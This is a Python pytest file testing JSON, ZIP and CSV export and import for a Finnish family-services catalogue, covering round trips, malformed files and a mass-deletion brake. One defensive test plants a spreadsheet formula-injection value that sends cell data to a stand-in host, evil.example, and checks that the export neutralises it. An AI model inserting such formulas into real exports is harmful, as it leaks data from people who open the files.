"""Catalogue export and import: JSON and CSV round trips, broken files, the brake."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from sqlalchemy import select

from service_catalog import exchange
from service_catalog.db import new_session
from service_catalog.exchange import CatalogueFormatError, export_json, main, run_export, run_import
from service_catalog.importers import ptv
from service_catalog.importers.common import SyncBrakeError
from service_catalog.migrate import upgrade
from service_catalog.models import Service, ServiceLocation

SAMPLE = Path(__file__).parent / "data" / "ptv_sample.json"


def snapshot(url: str) -> str:
    with new_session(url) as session:
        return export_json(session)


@pytest.fixture
def full_url(catalog_url: str) -> str:
    """The seed catalogue plus the PTV sample: exceptional and over-midnight hours, PTV ids."""
    ptv.run_import(ptv.load_file(SAMPLE), catalog_url)
    return catalog_url


@pytest.fixture
def fresh_url(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'fresh.sqlite3'}"
    upgrade(url)
    return url


def test_json_export_names_every_table_with_localised_fields_and_hours(full_url: str) -> None:
    document = json.loads(snapshot(full_url))
    assert document["format"] == "perhekeskus-catalogue"
    assert set(document["tables"]) == {
        "region", "municipality", "area", "provider", "helpline", "service", "service_location",
        "contact", "contact_municipality", "contact_area",
    }  # fmt: skip
    mikkeli = next(m for m in document["tables"]["municipality"] if m["id"] == "mikkeli")
    assert mikkeli["name"] == {"fi": "Mikkeli", "sv": "S:t Michel", "en": None}
    assert mikkeli["code"] == "491"
    location = next(
        loc for loc in document["tables"]["service_location"] if loc["id"].startswith("ptv-0a1b2c3d")
    )
    assert location["hours"][1]["serviceHourType"] == "Exceptional"


@pytest.mark.parametrize("name", ["catalogue.json", "catalogue.zip", "catalogue-csv"])
def test_round_trip_into_a_fresh_database_gives_the_same_export(
    full_url: str, fresh_url: str, tmp_path: Path, name: str
) -> None:
    first, second = tmp_path / "first" / name, tmp_path / "second" / name
    first.parent.mkdir()
    second.parent.mkdir()
    run_export(first, full_url)

    report = run_import(first, fresh_url)
    run_export(second, fresh_url)

    assert report.total("created") > 500 and report.total("deleted") == 0
    if first.is_dir():
        assert sorted(p.name for p in second.iterdir()) == sorted(p.name for p in first.iterdir())
        for path in first.iterdir():
            assert (second / path.name).read_bytes() == path.read_bytes()
    else:
        assert second.read_bytes() == first.read_bytes()
    assert snapshot(fresh_url) == snapshot(full_url)


def test_csv_cells_hold_json_for_hours_and_localised_fields(full_url: str) -> None:
    with new_session(full_url) as session:
        files = exchange.export_csv_files(session)
    header, first = files["service.csv"].splitlines()[:2]
    assert header.startswith(
        "id,type,provider_id,region_id,municipality_id,area_id,languages,min_age,max_age,name,"
    )
    assert '"{""fi"": ' in first
    assert "DaysOfTheWeek" in files["service_location.csv"]


def test_a_text_cell_written_as_a_formula_is_neutralised_and_numbers_stay(
    full_url: str, tmp_path: Path
) -> None:
    # A spreadsheet would run the address; the phone number and the negative age stay usable
    # and import back as they were.
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Avaa")'
    with new_session(full_url) as session, session.begin():
        location = session.scalars(select(ServiceLocation).order_by(ServiceLocation.id)).first()
        location.street_address, location.phone = hostile, "+358 40 123 4567"
        service = session.get(Service, location.service_id)
        service.min_age = -1
        ids = location.id, service.id
    with new_session(full_url) as session:
        files = exchange.export_csv_files(session)

    def row(table: str, key: str) -> dict[str, str]:
        return next(r for r in csv.DictReader(io.StringIO(files[table])) if r["id"] == key)

    assert row("service_location.csv", ids[0])["street_address"] == "'" + hostile
    assert row("service_location.csv", ids[0])["phone"] == "+358 40 123 4567"
    assert row("service.csv", ids[1])["min_age"] == "-1"
    folder = tmp_path / "csv"
    run_export(folder, full_url)
    records = exchange.read_export(folder)
    assert next(r for r in records["service"] if r["id"] == ids[1])["min_age"] == -1
    assert next(r for r in records["service_location"] if r["id"] == ids[0])["phone"] == "+358 40 123 4567"


def test_importing_its_own_export_changes_nothing(full_url: str, tmp_path: Path) -> None:
    path = tmp_path / "catalogue.json"
    run_export(path, full_url)
    report = run_import(path, full_url)
    assert report.total("unchanged") > 500
    assert (report.total("created"), report.total("updated"), report.total("deleted")) == (0, 0, 0)
    assert snapshot(full_url) == path.read_text(encoding="utf-8")


def test_an_edited_export_updates_the_catalogue(full_url: str, tmp_path: Path) -> None:
    document = json.loads(snapshot(full_url))
    service = next(s for s in document["tables"]["service"] if s["id"] == "mikkeli-lastenneuvola")
    service["name"]["en"] = "Child health clinic of Mikkeli"
    path = tmp_path / "edited.json"
    path.write_text(json.dumps(document), encoding="utf-8")

    report = run_import(path, full_url)

    assert report.counts["service"]["updated"] == 1 and report.total("updated") == 1
    with new_session(full_url) as session:
        assert session.get(Service, "mikkeli-lastenneuvola").name_en == "Child health clinic of Mikkeli"


def _edit(document: dict, table: str, row_id: str, **changes) -> None:
    next(r for r in document["tables"][table] if r["id"] == row_id).update(changes)


JSON_BREAKAGES: dict[str, tuple[Callable[[dict], None], str]] = {
    "unknown field": (lambda d: _edit(d, "region", "etela-savo", colour="blue"), "unknown fields"),
    "invalid time": (
        lambda d: _edit(
            d,
            "service_location",
            "mikkeli-lastenneuvola-perhekeskus",
            hours=[
                {
                    "serviceHourType": "DaysOfTheWeek",
                    "openingHour": [{"dayFrom": "Monday", "from": "08:00", "to": "25:99"}],
                }
            ],
        ),
        "25:99",
    ),  # fmt: skip
    "unknown service type": (lambda d: _edit(d, "service", "mikkeli-lastenneuvola", type="sauna"), "sauna"),
    "unknown municipality": (
        lambda d: _edit(d, "service", "mikkeli-lastenneuvola", municipality_id="atlantis"),
        "atlantis",
    ),
    "wrong type": (lambda d: _edit(d, "service", "mikkeli-lastenneuvola", min_age="two"), "wrong type"),
    "missing table": (lambda d: d["tables"].pop("helpline"), "missing tables"),
    "duplicate id": (lambda d: d["tables"]["region"].append(dict(d["tables"]["region"][0])), "twice"),
    "not an export": (lambda d: d.pop("format"), "not a catalogue export"),
}


@pytest.mark.parametrize("case", list(JSON_BREAKAGES))
def test_broken_json_raises_and_changes_nothing(full_url: str, tmp_path: Path, case: str) -> None:
    breakage, message = JSON_BREAKAGES[case]
    before = snapshot(full_url)
    document = json.loads(before)
    _edit(
        document, "service", "mikkeli-lastenneuvola", name={"fi": "Neuvola", "sv": None, "en": None}
    )  # valid
    breakage(document)
    path = tmp_path / "broken.json"
    path.write_text(json.dumps(document), encoding="utf-8")

    with pytest.raises(CatalogueFormatError, match=message):
        run_import(path, full_url)
    assert snapshot(full_url) == before


def test_malformed_json_text_is_a_typed_error(full_url: str, tmp_path: Path) -> None:
    path = tmp_path / "broken.json"
    path.write_text(snapshot(full_url)[:-300], encoding="utf-8")
    with pytest.raises(CatalogueFormatError, match="not JSON"):
        run_import(path, full_url)


@pytest.mark.parametrize(
    ("table", "edit", "message"),
    [
        ("service_location.csv", lambda text: text.replace('[{""validFrom', "[{validFrom", 1), "not JSON"),
        ("region.csv", lambda text: text.replace("id,name", "id,name,colour", 1), "unknown columns"),
        ("service.csv", lambda text: text.replace(",false,", ",nope,", 1), "true or false"),
    ],
    ids=["bad JSON cell", "unknown column", "bad boolean"],
)
def test_broken_csv_raises_and_changes_nothing(
    full_url: str, tmp_path: Path, table: str, edit, message: str
) -> None:
    folder = tmp_path / "csv"
    run_export(folder, full_url)
    before = snapshot(full_url)
    (folder / table).write_text(edit((folder / table).read_text(encoding="utf-8")), encoding="utf-8")
    with pytest.raises(CatalogueFormatError, match=message):
        run_import(folder, full_url)
    assert snapshot(full_url) == before


def test_not_a_zip_is_a_typed_error(full_url: str, tmp_path: Path) -> None:
    path = tmp_path / "catalogue.zip"
    path.write_bytes(b"not a zip")
    with pytest.raises(CatalogueFormatError):
        run_import(path, full_url)


def test_brake_refuses_an_import_that_deletes_most_services(full_url: str, tmp_path: Path) -> None:
    before = snapshot(full_url)
    document = json.loads(before)
    kept = {s["id"] for s in document["tables"]["service"][:40]}
    document["tables"]["service"] = [s for s in document["tables"]["service"] if s["id"] in kept]
    document["tables"]["service_location"] = [
        loc for loc in document["tables"]["service_location"] if loc["service_id"] in kept
    ]
    path = tmp_path / "shrunk.json"
    path.write_text(json.dumps(document), encoding="utf-8")

    with pytest.raises(SyncBrakeError, match="rows of"):
        run_import(path, full_url)
    assert snapshot(full_url) == before

    report = run_import(path, full_url, max_delete_share=1.0)
    assert report.counts["service"]["deleted"] == len(json.loads(before)["tables"]["service"]) - 40


def test_dry_run_saves_nothing(full_url: str, fresh_url: str, tmp_path: Path) -> None:
    path = tmp_path / "catalogue.zip"
    run_export(path, full_url)
    empty = snapshot(fresh_url)
    report = run_import(path, fresh_url, dry_run=True)
    assert report.total("created") > 500 and "dry run" in report.lines()[0]
    assert snapshot(fresh_url) == empty


def test_cli_exports_and_imports(full_url: str, fresh_url: str, tmp_path: Path, capsys) -> None:
    path = tmp_path / "catalogue.json"
    assert main(["export", str(path), "--database-url", full_url]) == 0
    assert main(["import", str(path), "--database-url", fresh_url]) == 0
    assert "catalogue import: " in capsys.readouterr().out
    path.write_text("{", encoding="utf-8")
    assert main(["import", str(path), "--database-url", fresh_url]) == 1
    assert "nothing changed" in capsys.readouterr().err
